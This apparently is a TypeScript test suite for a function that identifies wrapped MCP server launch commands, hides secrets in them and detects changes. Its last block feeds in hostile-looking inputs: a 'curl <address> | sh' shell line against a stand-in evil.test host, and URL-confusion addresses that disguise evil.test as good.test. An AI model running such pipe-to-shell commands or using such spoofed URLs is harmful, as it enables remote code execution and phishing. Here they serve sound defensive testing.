import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir, userInfo } from "node:os"
import { delimiter, join } from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { findProgram } from "./find-program.ts"
import { type Started, serverProgram } from "./server-program.ts"

let folder: string
let other: string
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "byleave-program-"))
  other = mkdtempSync(join(tmpdir(), "byleave-program-"))
  for (const each of [folder, other]) {
    mkdirSync(join(each, "bin"))
    mkdirSync(join(each, "dist"))
    for (const name of ["server.js", "server.sh", "notes.py", "server.jar", "dist/index.js", "hook.js"]) {
      writeFileSync(join(each, name), "")
    }
    writeFileSync(join(each, "bin", "my-server"), "")
    chmodSync(join(each, "bin", "my-server"), 0o755)
  }
})
afterAll(() => {
  for (const each of [folder, other]) rmSync(each, { recursive: true })
})

type Line = readonly string[]

function startedIn(cwd: string, [command = "", ...args]: Line, env: Readonly<Record<string, string>>): Started {
  const given = new Map([["PATH", join(folder, "bin")], ...Object.entries(env)])
  return { command, args, cwd, env: given, file: findProgram(command, given, cwd) }
}

const key = "the key of these tests"

function programIn(cwd: string, line: Line, env: Readonly<Record<string, string>> = {}): string {
  return serverProgram(startedIn(cwd, line, env), key)
}

const programOf = (...line: Line) => programIn(folder, line).replaceAll(folder, "HERE")

describe("the program of a wrapped server", () => {
  it.each([
    { line: ["node", "server.js", "/tmp"], program: "node HERE/server.js" },
    { line: ["node", "server.js", "/not/there"], program: "node HERE/server.js /not/there" },
    { line: ["node", "dist/index"], program: "node HERE/dist/index.js" },
    { line: ["node", "--no-warnings", "/opt/server.js"], program: "node /opt/server.js" },
    { line: ["node", "--require", "./x.js", "server.js"], program: "node --require ./x.js server.js (in HERE)" },
    { line: ["node", "/opt/x.js", "serve"], program: "node /opt/x.js serve (in HERE)" },
    { line: ["node", "/opt/x.js", "--port", "80", "stdio"], program: "node /opt/x.js --port 80 stdio" },
    { line: ["./run me", "stdio"], program: 'PATH=HERE/bin "HERE/run me" stdio (in HERE)' },
    { line: ["my-server", "--stdio", "/tmp"], program: "HERE/bin/my-server --stdio /tmp" },
    { line: ["my-server", "--stdio", "on", "/tmp"], program: "HERE/bin/my-server --stdio on /tmp (in HERE)" },
    { line: ["my-server", "server.js"], program: "HERE/bin/my-server server.js (in HERE)" },
    { line: ["not-there"], program: "not-there (in HERE)" },
    {
      line: ["npx", "-y", "@modelcontextprotocol/server-filesystem", "/tmp"],
      program: "npx @modelcontextprotocol/server-filesystem",
    },
    { line: ["npx", "-y", "@scope/server-files@1.2", "/tmp"], program: "npx @scope/server-files@1.2" },
    { line: ["npx", "-y", "mcp-remote", "https://a.test/mcp"], program: "npx mcp-remote https://a.test/mcp" },
    { line: ["npx", "-y", "@playwright/mcp@latest", "--headless"], program: "npx @playwright/mcp@latest --headless" },
    { line: ["cmd", "/c", "npx", "-y", "files-mcp"], program: "cmd /c npx files-mcp" },
    { line: ["uvx", "mcp-server-git", "--repository", "/tmp"], program: "uvx mcp-server-git --repository /tmp" },
    { line: ["uvx", "mcp-server-git==1.2", "/tmp"], program: "uvx mcp-server-git==1.2" },
    { line: ["uvx", "--from", "git+https://a.test/x", "x"], program: "uvx --from git+https://a.test/x x (in HERE)" },
    { line: ["uv", "run", "my-server"], program: "PATH=HERE/bin uv run my-server (in HERE)" },
    { line: ["uv", "--directory", "/srv/x", "run", "x"], program: "uv --directory /srv/x run x (in /srv/x)" },
    { line: ["uv", "run", "x", "--directory", "/srv/x"], program: "uv run x --directory /srv/x (in HERE)" },
    { line: ["deno", "run", "-A", "npm:files"], program: "deno run -A npm:files (in HERE)" },
    { line: ["python3.12", "-u", "notes.py"], program: "python3.12 HERE/notes.py" },
    { line: ["python3.12", "-m", "elsewhere.notes"], program: "python3.12 -m elsewhere.notes (in HERE)" },
    { line: ["sh", "-c", "a | b"], program: 'PATH=HERE/bin sh -c "a | b" (in HERE)' },
    { line: ["npm", "start"], program: "PATH=HERE/bin npm start (in HERE)" },
    {
      line: ["docker", "run", "-i", "--rm", "-v", "/tmp:/data", "mcp/files", "x"],
      program: "docker run -i --rm -v /tmp:/data mcp/files x",
    },
    { line: ["docker", "compose", "run", "files"], program: "docker compose run files (in HERE)" },
  ])("$line is $program", ({ line, program }) => {
    expect(programOf(...line)).toBe(program)
  })

  it.each<{ line: Line }>([
    { line: ["node", "dist/index"] },
    { line: ["node", "--import=./hook.js", "/opt/server.js"] },
    { line: ["sh", "server.sh"] },
    { line: ["bash", "-c", "./server.sh"] },
    { line: ["bash", "-c", "./server.sh https://a.test"] },
    { line: ["java", "-jar", "server.jar"] },
    { line: ["ruby", "server.rb"] },
    { line: ["bun", "run", "start"] },
    { line: ["uv", "run", "my-server"] },
    { line: ["deno", "task", "files"] },
    { line: ["docker", "compose", "run", "files"] },
    { line: ["python", "-m", "notes"] },
    { line: ["my-server", "./server.js"] },
    { line: ["npx", "tsx", "dist/index"] },
    { line: ["npx", "-c", "node dist/index"] },
    { line: ["uvx", "fastmcp", "run", "server.py"] },
    { line: ["docker", "--debug", "compose", "up"] },
    { line: ["python", "-m", "fastmcp", "run", "server.py:app"] },
    { line: ["python", "-m", "cProfile", "serve"] },
    { line: ["python", "-m", "uvicorn", "main:app"] },
    { line: ["gmake", "-s", "serve"] },
    { line: ["/usr/bin/task"] },
    { line: ["corepack", "yarn", "start"] },
    { line: ["volta", "run", "npm", "start"] },
    { line: ["pnpx", "files-mcp"] },
    { line: ["npx", "-y", "c8-mcp", "node", "server"] },
    { line: ["npx", "gulp"] },
    { line: ["npx", "-y", "guard-mcp", "--", "/bin/x"] },
    { line: ["npx", "server.tgz"] },
    { line: ["npx", "x-server@."] },
    { line: ["npx", "servers/x"] },
    { line: ["npx", "-w", "x", "files-mcp"] },
    { line: ["npx", "files-mcp", "/a:./b"] },
    { line: ["uvx", "files_mcp.whl"] },
    { line: ["docker", "run", "-v", "./:/app", "x"] },
    { line: ["docker", "run", "--env-file", ".env", "x"] },
    { line: ["my-server", "-xserver"] },
    { line: ["tsx", "/opt/server.ts"] },
    { line: ["bun", "/opt/server.ts"] },
  ])("$line in another folder is another program", ({ line }) => {
    expect(programIn(folder, line)).not.toBe(programIn(other, line))
  })

  it.each<{ name: string; one: Line; two: Line }>([
    { name: "what a package runs", one: ["npx", "tsx", "a.ts"], two: ["npx", "tsx", "b.ts"] },
    { name: "a module's word", one: ["python", "-m", "cProfile", "a"], two: ["python", "-m", "cProfile", "b"] },
    { name: "what follows --", one: ["uvx", "mcpo", "--", "a"], two: ["uvx", "mcpo", "--", "b"] },
    { name: "a host", one: ["npx", "mcp-remote", "a.test"], two: ["npx", "mcp-remote", "b.test"] },
    { name: "a file's word", one: ["node", "/x.js", "a"], two: ["node", "/x.js", "b"] },
    { name: "a folder of code", one: ["node", "/x.js", "--plugin", "/tmp"], two: ["node", "/x.js", "--plugin", "/"] },
    { name: "a folder that is run", one: ["npx", "x-mcp", "node", "/tmp"], two: ["npx", "x-mcp", "node", "/"] },
    { name: "a file behind a module", one: ["python", "-m", "x", "a.py"], two: ["python", "-m", "x", "b.py"] },
    { name: "what a project's command runs", one: ["uv", "run", "python", "a"], two: ["uv", "run", "python", "b"] },
    { name: "a task behind a switch", one: ["deno", "-q", "task", "a"], two: ["deno", "-q", "task", "b"] },
    { name: "another task", one: ["deno", "task", "a"], two: ["deno", "task", "b"] },
    {
      name: "another address",
      one: ["npx", "mcp-remote", "https://a.test"],
      two: ["npx", "mcp-remote", "https://b.test"],
    },
    {
      name: "another address in a switch",
      one: ["node", "/x.js", "--to=https://a.test"],
      two: ["node", "/x.js", "--to=https://b.test"],
    },
    { name: "an unknown command with other arguments", one: ["/bin/proxy", "a"], two: ["/bin/proxy", "b"] },
    {
      name: "a file in a secret's place",
      one: ["sudo", "--auth-type", "/bin/a"],
      two: ["sudo", "--auth-type", "/bin/b"],
    },
    { name: "a word in a secret's place", one: ["bash", "--token", "a"], two: ["bash", "--token", "b"] },
    { name: "a file in a variable of a shell", one: ["sh", "-c", "KEY=/a $KEY b"], two: ["sh", "-c", "KEY=/b $KEY b"] },
    {
      name: "what follows a switch without a value",
      one: ["bash", "--no-auth", "a1-b2"],
      two: ["bash", "--no-auth", "c3-d4"],
    },
    ...[
      ["npx", "--no-auth", "good-mcp-server1", "evil-mcp-server2"],
      ["/opt/x-server", "--tokenizer", "good/model-1b-chat", "evil/model-7b-code"],
      ["/opt/x-server", "--token", "good-server-number-01", "evil-server-number-02"],
      ["/opt/x-server", "--auth", "x7Hd92kLm0Pz4Rt8", "b5Jn1Yc6Gf3Sa9Ue"],
      ["/opt/x-server", "--sort-key", "x7Hd92kLm0Pz4Rt8", "b5Jn1Yc6Gf3Sa9Ue"],
      ["/opt/x-server", "--token", "a1b2c3.example.com.", "d4e5f6.example.org."],
      ["/opt/x-server", "--token", "2001:db8::a1b2:1", "2001:db8::b2c3:2"],
      ["/opt/x-server", "--token", "a1b2c3d4.xn--p1ai", "e5f6g7h8.xn--p1ai"],
      ["sh", "-c", "auth_cmd=goodserver01; exec $auth_cmd", "auth_cmd=evilserver02; exec $auth_cmd"],
      ["sh", "-c", "A_TOKEN=x7Hd92kLm0Pz4Rt8; exec $A_TOKEN", "A_TOKEN=b5Jn1Yc6Gf3Sa9Ue; exec $A_TOKEN"],
    ].map(([command = "", name = "", one = "", two = ""]) => ({
      name: `${command} ${name} ${two} instead of ${one}`,
      one: [command, name, one],
      two: [command, name, two],
    })),
    { name: "another user", one: ["npx", "pg-mcp", "pg://a:x@db/y"], two: ["npx", "pg-mcp", "pg://b:x@db/y"] },
    { name: "a plain password", one: ["npx", "pg-mcp", "pg://a:x@db/y"], two: ["npx", "pg-mcp", "pg://a:y@db/y"] },
    {
      name: "a parameter that only sounds secret",
      one: ["npx", "cql-mcp", "cassandra://db.test/?keyspace=test"],
      two: ["npx", "cql-mcp", "cassandra://db.test/?keyspace=customers"],
    },
    {
      name: "a place in a parameter that sounds secret",
      one: ["npx", "cql-mcp", "cassandra://db.test/?keyspace=customers_2023"],
      two: ["npx", "cql-mcp", "cassandra://db.test/?keyspace=customers_2024"],
    },
    {
      name: "a host in a secret's place",
      one: ["npx", "x-mcp", "--auth", "login1.a.test/x"],
      two: ["npx", "x-mcp", "--auth", "login1.b.test/x"],
    },
    {
      name: "an address in a parameter that sounds secret",
      one: ["npx", "mcp-remote", "https://a.test/mcp?auth_server=https://b.test"],
      two: ["npx", "mcp-remote", "https://a.test/mcp?auth_server=https://c.test"],
    },
    {
      name: "a long line's end",
      one: ["sh", "-c", `${"#".repeat(5_000)}a`],
      two: ["sh", "-c", `${"#".repeat(5_000)}b`],
    },
  ])("$name is another program", ({ one, two }) => {
    expect(programOf(...one)).not.toBe(programOf(...two))
  })

  it.each([
    ...["NODE_OPTIONS", "PYTHONPATH", "LD_PRELOAD", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "BUN_OPTIONS", "VIRTUAL_ENV"],
    ...["npm_config_node_options", "NPM_CONFIG_REGISTRY", "npm_config_@scope:registry", "UV_INDEX_URL", "PERLLIB"],
    ...["PYTHONUSERBASE", "ZDOTDIR", "GEM_PATH", "BUNDLE_GEMFILE", "DOCKER_HOST"],
    ...["HOME", "USERPROFILE", "XDG_CONFIG_HOME", "XDG_CONFIG_DIRS", "XDG_DATA_HOME", "APPDATA"],
  ])("%s makes another program", (name) => {
    const line = ["python", "/opt/server.py"]
    const values = ["/a.js", "/b.js", "./c.js"].map((value) => programIn(folder, line, { [name]: value }))
    expect(new Set([programIn(folder, line), ...values]).size).toBe(4)
    expect(programIn(folder, line, { [name]: "./c.js" })).not.toBe(programIn(other, line, { [name]: "./c.js" }))
  })

  it.each([
    { name: "npm_config_user_agent", value: "npm/11.0.0 node/v24.0.0" },
    { name: "npm_config_//registry.test/:_authToken", value: "npm_a1b2c3" },
    { name: "VIRTUAL_ENV", value: "/home/me/.venv" },
  ])("$name is nothing to npx", ({ name, value }) => {
    expect(programIn(folder, ["npx", "files-mcp"], { [name]: value })).toBe("npx files-mcp")
  })

  it("the package behind a switch without a value is shown", () => {
    expect(programOf("npx", "--no-auth", "good-mcp-server1")).toContain("good-mcp-server1")
  })

  it("however long the variables are, the command is shown, and their ends count", () => {
    const of = (end: string) =>
      programIn(folder, ["npx", "files-mcp"], { "BASH_FUNC_x%%": `() { ${"#".repeat(9_000)}${end}` })
    expect(of("a")).toMatch(/ npx files-mcp .*\(with what is not shown: /)
    expect(of("a")).not.toBe(of("b"))
  })

  it("the user's own home is nothing to anybody", () => {
    expect(programIn(folder, ["npx", "files-mcp"], { HOME: userInfo().homedir })).toBe("npx files-mcp")
  })

  it.each([
    { name: "of any package", path: ["node_modules", "zz", "package.json"] },
    { name: "of a command with a scope", path: ["node_modules", ".bin", "@scope", "files-mcp"] },
    { name: "of a command with a version", path: ["node_modules", ".bin", "files-mcp@latest"] },
    { name: "of another runtime", path: ["node_modules", ".bin", "node"] },
    { name: "of a package itself", path: ["package.json"] },
    { name: "of settings of npm", path: [".npmrc"] },
  ])("chosen-program I1: the folder $name is the folder of what npx runs there, and below", ({ path }) => {
    const line = ["npx", "-y", "@scope/files-mcp", "/tmp"]
    const project = mkdtempSync(join(folder, "project-"))
    const below = join(project, "src", "deep")
    mkdirSync(below, { recursive: true })
    expect(programIn(project, line)).toBe("npx @scope/files-mcp")
    mkdirSync(join(project, ...path.slice(0, -1)), { recursive: true })
    writeFileSync(join(project, ...path), "{}")
    for (const each of [project, below]) {
      expect(programIn(each, line)).toBe(`npx @scope/files-mcp (in ${project})`)
      expect(programIn(each, ["cmd", "/c", ...line])).toContain(`(in ${project})`)
      expect(programIn(each, ["uvx", "files-mcp"])).toBe("uvx files-mcp")
    }
  })

  it("an npx command that is given something of the folder is of the folder itself, in a project as well", () => {
    const project = mkdtempSync(join(folder, "project-"))
    mkdirSync(join(project, "src"))
    writeFileSync(join(project, "package.json"), "{}")
    const line = ["npx", "files-mcp", "./notes"]
    expect(programIn(join(project, "src"), line)).toBe(`npx files-mcp ./notes (in ${join(project, "src")})`)
  })

  it("a command is the file that is started for it: an empty part of PATH names no folder", () => {
    const path = { PATH: `${delimiter}${join(other, "bin")}` }
    expect(programIn(join(folder, "bin"), ["my-server"], path)).toBe(join(other, "bin", "my-server"))
  })

  it.each([
    { name: "the folder", command: "./cmd", env: { PATH: "/usr/bin" } },
    { name: "PATH", command: "cmd", env: { PATH: "bin" } },
  ])("a file called cmd in $name is that file, and understood as no shell", ({ command, env }) => {
    const within = command === "cmd" ? ["bin", "cmd"] : ["cmd"]
    for (const each of [folder, other]) {
      writeFileSync(join(each, ...within), "")
      chmodSync(join(each, ...within), 0o755)
    }
    const line = [command, "/c", "npx", "-y", "files-mcp", "/tmp"]
    const own = `${join(folder, ...within)} /c npx -y files-mcp /tmp (in ${folder})`
    expect(programIn(folder, line, env)).toBe(`PATH=${env.PATH} ${own}`)
    expect(programIn(other, line, env)).not.toBe(programIn(folder, line, env))
  })

  const mountedAt = (place: string, value: string, isMount = () => true) => {
    const env = { APPDIR: place, LD_LIBRARY_PATH: value }
    return serverProgram(startedIn(folder, ["npx", "files-mcp"], env), key, isMount)
  }

  it("the place where an AppImage is mounted makes no other program", () => {
    const mounted = ["/tmp/.mount_a1", "/tmp/.mount_b2"].map((place) => mountedAt(place, `${place}/usr/lib:`))
    expect(mounted[0]).toBe("LD_LIBRARY_PATH=$APPDIR/usr/lib: npx files-mcp")
    expect(mounted[1]).toBe(mounted[0])
  })

  it.each([
    { name: "a folder that is only called so", program: () => programIn(folder, ["npx", "files-mcp"], ofFolder()) },
    { name: "a place beside it", program: () => mountedAt("/tmp/.mount_a1", "/tmp/.mount_a1/../x/usr/lib:") },
    { name: "a longer name", program: () => mountedAt("/tmp/.mount_a1", "/tmp/.mount_a1x/usr/lib:") },
    { name: "its name as it is written", program: () => mountedAt("", "$APPDIR/usr/lib:") },
  ])("$name is not the place of an AppImage", ({ program }) => {
    expect(program()).not.toBe(mountedAt("/tmp/.mount_a1", "/tmp/.mount_a1/usr/lib:"))
    expect(program()).not.toMatch(/=\$APPDIR/)
  })

  const ofFolder = () => {
    const place = join(folder, ".mount_a1")
    mkdirSync(place, { recursive: true })
    return { APPDIR: place, LD_LIBRARY_PATH: `${place}/usr/lib:` }
  }
})

it("marks of ours are told from words that look like them", () => {
  const left = "aB3dEfGh1jKlMn0pQrStUvWxYz12"
  const one = programOf("docker", "run", "-i", "img/x", left)
  const [, digest = ""] = /shown: (\w+)/.exec(one) ?? []
  const two = programOf("docker", "run", "-i", "img/x", "…", ...`(with what is not shown: ${digest})`.split(" "))
  expect([one, two]).toEqual([
    `docker run -i img/x … (with what is not shown: ${digest})`,
    `docker run -i img/x "…" "(with" what is not shown: ${digest})`,
  ])
})

describe("secrets among the words", () => {
  const secrets = ["xq_7Hd92kLm0Pz4Rt8Wv", "xq_b5Jn1Yc6Gf3Sa9Ue2"]

  it.each<{ line: (secret: string) => Line; shown: string }>([
    { line: (secret) => ["docker", "run", "-e", `API_KEY=${secret}`, "x"], shown: "docker run -e API_KEY=… x" },
    { line: (secret) => ["npx", "x-mcp", "--api-token", secret], shown: "npx x-mcp --api-token …" },
    { line: (secret) => ["/bin/x-server", `--token=${secret}`], shown: "/bin/x-server --token=…" },
    {
      line: (secret) => ["/bin/x-server", "--header", `Authorization: Bearer ${secret}`],
      shown: '/bin/x-server --header "Authorization: …"',
    },
    { line: (secret) => ["npx", "pg-mcp", `postgres://me:${secret}@db/x`], shown: "npx pg-mcp postgres://me:…@db/x" },
    {
      line: (secret) => ["npx", "mcp-remote", `https://a.test/mcp?api_key=${secret}`],
      shown: "npx mcp-remote https://a.test/mcp?api_key=…",
    },
    {
      line: (secret) => ["sh", "-c", `API_KEY=${secret} /bin/x`],
      shown: 'PATH=HERE/bin sh -c "API_KEY=… /bin/x" (in HERE)',
    },
    {
      line: (secret) => ["sh", "-c", `API_KEY=${secret} /bin/x https://me:${secret}@a.test`],
      shown: 'PATH=HERE/bin sh -c "API_KEY=… /bin/x https://me:…@a.test" (in HERE)',
    },
  ])("$shown: a secret is not shown, and a new one makes no other program", ({ line, shown }) => {
    expect(secrets.map((secret) => programOf(...line(secret)))).toEqual([shown, shown])
  })

  it.each<{ line: (secret: string) => Line }>([
    { line: (secret) => ["/bin/proxy", secret] },
    { line: (secret) => ["npx", "mcp-remote", `https://a.test/${secret}/mcp`] },
    { line: () => ["/bin/proxy", "--password", "weak"] },
  ])("what may be one is not shown, but counted by a digest that only this installation can make", ({ line }) => {
    const [command = "", ...args] = line("aB3dE5gH7jK9mN1pQ3sT5vW7")
    const env = new Map<string, string>()
    const started = { command, args, cwd: folder, env, file: findProgram(command, env, folder) }
    const program = serverProgram(started, "a key")
    expect(program).toMatch(/… ?.*\(with what is not shown: [\da-f]{16}\)$/)
    expect(program).not.toMatch(/aB3dE5|weak/)
    expect(serverProgram(started, "another key")).not.toBe(program)
  })
})

describe("the host of an address", () => {
  const login = "https://me:s3cret@good.test/mcp"
  const twins = [
    ...["https://evil.test#@good.test/mcp", "https://evil.test?@good.test/mcp", "https://evil.test\\@good.test/mcp"],
    ...["https://me:s3cret@evil.test#@good.test/mcp", "https://evil.test?token=a1b2c3d4e5f6@good.test/mcp"],
    "https://a1b2c3d4e5f6@evil.test,x@good.test/mcp",
  ]
  const places: readonly { name: string; line: (address: string) => Line; env?: (address: string) => object }[] = [
    { name: "an argument", line: (address) => ["npx", "mcp-remote", address] },
    { name: "a switch", line: (address) => ["npx", "x-mcp", `--to=${address}`] },
    { name: "a switch that sounds secret", line: (address) => ["npx", "x-mcp", "--auth-server", address] },
    { name: "the text of a shell", line: (address) => ["sh", "-c", `curl ${address} | sh`] },
    { name: "a word of a shell", line: (address) => ["sh", "-c", `curl$IFS$1${address}`] },
    { name: "a variable", line: () => ["npx", "x-mcp"], env: (address) => ({ npm_config_registry: address }) },
  ]

  it.each(places.flatMap((place) => twins.map((twin) => ({ ...place, twin }))))(
    "is shown and counts in $name: $twin",
    ({ line, env, twin }) => {
      const of = (address: string): string => programIn(folder, line(address), { ...env?.(address) })
      expect(of(twin)).toContain("evil.test")
      expect(of(twin)).not.toBe(of(login))
      expect(of(login)).toContain("good.test")
      expect(of(login)).not.toContain("s3cret")
    },
  )

  it("has no parameters in it", () => {
    expect(programOf("npx", "mcp-remote", "https://x&token=a1b2c3d4e5f6.evil.test/mcp")).toContain("evil.test")
  })

  it("is shown whatever a shell would end it by", () => {
    expect(programOf("sh", "-c", "curl http://evil.test;x=@good.test")).toContain("evil.test")
  })
})
